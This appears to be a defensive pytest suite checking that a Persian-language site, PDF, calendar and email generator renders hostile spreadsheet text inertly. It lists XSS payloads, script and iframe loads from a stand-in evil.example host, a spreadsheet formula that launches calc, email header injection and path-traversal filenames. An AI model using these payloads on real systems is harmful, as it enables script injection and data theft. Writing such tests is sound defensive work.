"""Whatever stands in a cell stays text: no new element, attribute, scheme or request on any page; N parties, N pages."""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from generator.settings import Smtp

if TYPE_CHECKING:
    from tests.conftest import OfficeWriter, Workspace

_TEXTS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
"><script src=//evil.example/x.js></script>
'><svg onload=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
` onclick=`alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
&#106;avascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
file:///etc/passwd
//evil.example/x
http://evil.example/?a=1
https://evil.example/"onclick=alert(1)
mailto:a@evil.example?bcc=b@evil.example
<a href=javascript:alert(1)>x</a>
<iframe src=//evil.example></iframe>
<object data=//evil.example></object>
<embed src=//evil.example>
<link rel=stylesheet href=//evil.example>
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=//evil.example>
<form action=//evil.example><input name=q></form>
<style>*{background:url(//evil.example)}</style>
<div style="background:url(//evil.example)">
<!-- comment
--><b>x</b><!--
<![CDATA[x]]>
]]><script>x</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</td></tr></table><h1>x</h1>
<svg><use href=//evil.example#x></svg>
<math><mtext><script>x</script></mtext></math>
<details open ontoggle=alert(1)>
{{ 7*7 }}
{% for n in range(9) %}x{% endfor %}
{# comment
${7*7}
#{7*7}
<%= 7*7 %>
=1+1
=HYPERLINK("http://evil.example","x")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1)
\u202etxt.exe
\u2066x\u2069\u200f
\u2028alert(1)
الف\u200c\u200cب\ufeff
%3Cscript%3E
\\u003cscript\\u003e
{name} {0.__class__}
a, b; c: d = "e" 'f'
"""
STRINGS = [line.encode().decode("unicode_escape").encode("latin-1", "ignore").decode("utf-8", "ignore")
           if line.startswith("java\\t") else line for line in _TEXTS.strip("\n").split("\n")]  # fmt: skip


def office_of(write: OfficeWriter, dangerous: bool) -> Workspace:
    """60 strings through every column of text that reaches a page; the neutral office has words in their place."""
    texts = STRINGS if dangerous else [f"واژهٔ {n}" for n in range(len(STRINGS))]

    def t(n: int) -> str:
        return texts[n % len(texts)]

    def title(n: int) -> str:
        """Without what no title holds, for that would be asked about and no letter made."""
        return re.sub(r"[\d/\\|؟?]", "", t(n))

    parties = [("کد", "نام حزب", "نام کوتاه", "نوع", "شماره پروانه", "دبیرکل", "دبیر استان", "لقب", "سمت", "ملاحظات")]
    dossiers: list[tuple[object, ...]] = [("تشکل", "مدرک", "وضعیت", "شرح نقص", "شماره نامه")]
    agenda: list[tuple[object, ...]] = [("شماره نشست", "موضوع", "ارائه‌دهنده", "مصوبه", "مسئول پیگیری")]
    attendance: list[tuple[object, ...]] = [("شماره نشست", "تشکل", "وضعیت حضور", "شرکت‌کننده")]
    decisions: list[tuple[object, ...]] = [("شماره نشست", "تشکل", "تصمیم", "دلیل", "توسط")]
    views: list[tuple[object, ...]] = [("شماره نشست", "تشکل", "حوزه", "دیدگاه", "ذکر نام", "پیگیری")]
    steps: list[tuple[object, ...]] = [("ترتیب", "گام", "وضعیت", "مسئول", "مستند")]
    for n in range(len(texts)):
        code = f"P{n:02}"
        parties.append((code, f"حزب {n:02} {t(n)}", f"{n:02} {t(n + 1)}", t(n + 2), t(n + 3), t(n + 4), t(n + 5), title(n + 6), t(n + 7), t(n)))  # fmt: skip
        dossiers.append((code, "form1", "ناقص", t(n), t(n + 1)))
        agenda.append((1, t(n), t(n + 1), t(n + 2), t(n + 3)))
        attendance.append((1, code, "حاضر", t(n)))
        decisions.append((2, code, "دعوت شود", t(n), t(n + 1)))
        views.append((1, code, t(n), t(n + 1), "بلی", t(n + 2)))
        steps.append((n, t(n), "انجام شد", t(n + 1), t(n + 2)))
    sessions = [("شماره نشست", "عنوان نشست", "تاریخ", "محل", "وضعیت"), (1, t(0), "1405/08/12", t(1), "برگزار شد"),
                (2, t(2), "1405/09/17", t(3), "برنامه‌ریزی‌شده")]  # fmt: skip
    office = [("عنوان تنظیم", "مقدار"), ("سربرگ", t(0)), ("نام اداره", t(1)), ("امضاکننده", t(8)), ("نشانی", t(13))]
    return write({"احزاب": parties, "پرونده‌ها": dossiers, "نشست‌ها": sessions, "دستور کار": agenda,
                  "حضور و غیاب": attendance, "تصمیم‌ها": decisions, "دیدگاه‌ها": views, "خانه احزاب": steps,
                  "تنظیمات": office})  # fmt: skip


class Shape(HTMLParser):
    """What a page is made of: its elements with the names of their attributes, and where its links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.schemes: set[str] = set()
        self.scripts: set[str] = set()
        self._in = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in = tag
        self.elements.add((tag, tuple(sorted(name for name, _ in attrs))))
        for name, value in attrs:
            if name in ("href", "src", "action", "data", "style", "http-equiv"):
                found = re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", value or "", re.IGNORECASE)
                self.schemes.add(f"{name} {found[1].lower() if found else ''}")

    def handle_data(self, data: str) -> None:
        if self._in in ("script", "style") and data.strip():
            self.scripts.add(data)


#: The gate leaves it out: its «&#106;avascript:…» is, to a reader who undoes escapes, the honorific of another party.
LEFT_OUT = "parties/P10/index.html"


def shapes(site: Path) -> Iterator[tuple[str, Shape]]:
    for path in sorted(site.rglob("*.html")):
        if path != site / LEFT_OUT:
            yield re.sub(r"P\d\d", "P", path.relative_to(site).as_posix()), Shape(path.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workspace, Workspace]:
    from tests.conftest import Workspace as Folder

    made = []
    for dangerous in (False, True):
        workspace = Folder(tmp_path_factory.mktemp("hostile"))

        def write(sheets: object, workspace: Folder = workspace) -> Folder:
            workspace.write("دفتر.xlsx", sheets)  # type: ignore[arg-type]
            return workspace

        built = office_of(write, dangerous)
        built.build()
        made.append(built)
    return made[0], made[1]


def test_sixty_strings() -> None:
    assert len(set(STRINGS)) == len(STRINGS) >= 60


def test_no_new_element_attribute_or_scheme_on_any_page(both: tuple[Workspace, Workspace]) -> None:
    neutral, hostile = both
    known: dict[str, tuple[set[object], set[str]]] = {}
    for kind, shape in shapes(neutral.site):
        elements, schemes = known.setdefault(kind, (set(), set()))
        elements |= shape.elements
        schemes |= shape.schemes
    everywhere = set().union(*(elements for elements, _ in known.values()))
    strange: list[object] = []
    for kind, shape in shapes(hostile.site):
        strange += [(kind, element) for element in shape.elements - everywhere]
        strange += [(kind, scheme) for scheme in shape.schemes - known.get(kind, (set(), set()))[1]]
        assert not shape.scripts, kind
    assert strange == []
    assert Counter(kind for kind, _ in shapes(hostile.site)) == Counter(kind for kind, _ in shapes(neutral.site))


def test_the_comparison_sees_what_is_let_through(both: tuple[Workspace, Workspace]) -> None:
    """The positive control: the same strings without escaping."""
    seen = [text for text in STRINGS if Shape(f'<p title="{text}">{text}</p>').elements != {("p", ("title",))}]
    assert len(seen) > 25


def test_every_page_has_its_policy_and_asks_nobody(both: tuple[Workspace, Workspace]) -> None:
    for path in both[1].site.rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        assert 'http-equiv="Content-Security-Policy"' in html
        assert not {s for s in Shape(html).schemes if s.endswith("//") or s.split()[-1] in ("http:", "https:", "file:")}


def test_no_formula_in_any_workbook(both: tuple[Workspace, Workspace]) -> None:
    n_books = 0
    for path in both[1].site.rglob("*.xlsx"):
        n_books += 1
        with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as book:
            for part in book.namelist():
                text = book.read(part).decode("utf-8", errors="replace")
                assert (
                    "<f>" not in text and "<f " not in text and "externalLink" not in part and "<hyperlink" not in text
                )
    assert n_books


def test_calendars_keep_their_lines(both: tuple[Workspace, Workspace]) -> None:
    def properties(site: Path) -> dict[str, Counter[str]]:
        return {
            path.relative_to(site).as_posix(): Counter(
                re.split(r"[:;]", line)[0]
                for line in path.read_text(encoding="utf-8").replace("\r\n ", "").split("\r\n")
                if line
            )
            for path in sorted(site.rglob("*.ics"))
        }

    neutral, hostile = properties(both[0].site), properties(both[1].site)
    assert neutral.keys() == hostile.keys()
    assert {p for c in hostile.values() for p in c} <= {p for c in neutral.values() for p in c}


def test_papers_hold_text_only(both: tuple[Workspace, Workspace], tmp_path: Path) -> None:
    """A letter with the strings: no link, script, form or file in the PDF, and nothing was asked for."""
    from html import escape

    from generator.engine.layout import Engine
    from generator.settings import shipped_templates

    body = "".join(f"<p>{escape(text)}</p>" for text in STRINGS)
    data = Engine((shipped_templates() / "assets",)).pdf(f'<html lang="fa"><body>{body}</body></html>', "a.pdf")
    for word in (
        b"/URI",
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/AcroForm",
        b"/EmbeddedFile",
        b"/GoToR",
        b"/SubmitForm",
    ):
        assert word not in data


@pytest.mark.parametrize(
    "url", ["http://evil.example/x.png", "file:///etc/passwd", "//evil.example/x", "asset:../../x"]
)
def test_whatever_a_paper_asks_for_elsewhere_fails_it(url: str) -> None:
    from generator.engine.layout import Engine
    from generator.model.errors import MachineError
    from generator.settings import shipped_templates

    with pytest.raises(MachineError, match="pdf_failed"):
        Engine((shipped_templates() / "assets",)).pdf(f'<html><body><img src="{url}" alt=""></body></html>', "a.pdf")


def mail_of(text: str) -> bytes | None:
    """The message of a letter with that text in its subject, number and sender's name; None when none is composed."""
    from generator.judging.office import Office
    from generator.language.wording import Wording
    from generator.model import IssuedLetter, LetterKind
    from generator.post.composing import Stationery, UnsafeHeaderError, compose
    from generator.post.mail import Mail
    from generator.settings import load, now

    settings = replace(load(Path.cwd(), today="1405-09-01"), smtp=Smtp(host="h", sender="office@example.ir"))
    day = date(2026, 11, 22)
    letter = IssuedLetter("L1", LetterKind.NOTICE, "A", None, 1, f"۱/{text}", day, None, text, {}, "0" * 64, "a.pdf")
    try:
        common = Stationery(settings.smtp, Office((), text), Wording.load(settings.templates))
        return compose(Mail(letter, "a@example.ir", "<L1.0@example.ir>"), b"%PDF-", common, now(settings))
    except UnsafeHeaderError:
        return None


def test_messages_keep_their_headers_and_parts() -> None:
    from email import message_from_bytes, policy

    def shape(data: bytes) -> list[list[tuple[str, str]]]:
        parts = message_from_bytes(data, policy=policy.default).walk()
        return [[(k.lower(), "" if k.lower() in ("from", "subject", "date", "content-disposition") else str(v)) for k, v in p.items()]
                for p in parts]  # fmt: skip

    neutral, composed = mail_of("واژه"), [mail_of(text) for text in (*STRINGS, "a\r\nBcc: x@evil.example", "a\n\nb")]
    assert neutral
    assert composed[-2:] == [None, None]  # the positive control: what would make a header is refused
    messages = [data for data in composed if data]
    assert len(messages) > 50
    for data in messages:
        assert shape(data) == shape(neutral)
        assert (
            data.isascii()
            and b"evil.example" not in data.split(b"\r\n\r\n")[0].replace(b"\r\n ", b"").split(b"Subject")[0]
        )
        attached = list(message_from_bytes(data, policy=policy.default).iter_attachments())
        assert [part.get_content_type() for part in attached] == ["application/pdf"]
        assert not set(attached[0].get_filename() or "") & set('\\/:*?"<>|')


NAMES = ["CON", "con", "Con ", "nul.txt", "AUX", "com1", "LPT9", "..", "../x", "..\\x", "/etc", "C:\\x", "a/b", "a\\b", "a:b",
         "a*b", "a?b", "a|b", "<a>", '"a"', "a.", "a ", "\u202ea", "\u200fa", "x" * 300, "ح" * 300, "index", "INDEX",
         "ab", "AB", "Ab", "حزب", "حِزب", "💥", "%2e%2e", "-rf", "~", "~$a", ".git", "assets"]  # fmt: skip


def test_hostile_names_n_parties_n_pages(office: OfficeWriter) -> None:
    rows = [(f"{name}", f"حزب شمارهٔ {n}") for n, name in enumerate(NAMES)]
    workspace = office({"احزاب": [("کد", "نام حزب"), *rows]})
    result = workspace.build()
    folders = [path.parent.name for path in (workspace.site / "parties").glob("*/index.html")]
    assert len(folders) == len(result.snapshot.parties)
    assert len({folder.casefold() for folder in folders}) == len(folders)
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,39}", folder) for folder in folders)
    assert sorted(path.name for path in workspace.root.iterdir()) == ["input", "output", "records"]
    assert len(result.snapshot.parties) >= len({name.strip().casefold() for name in NAMES}) - 3
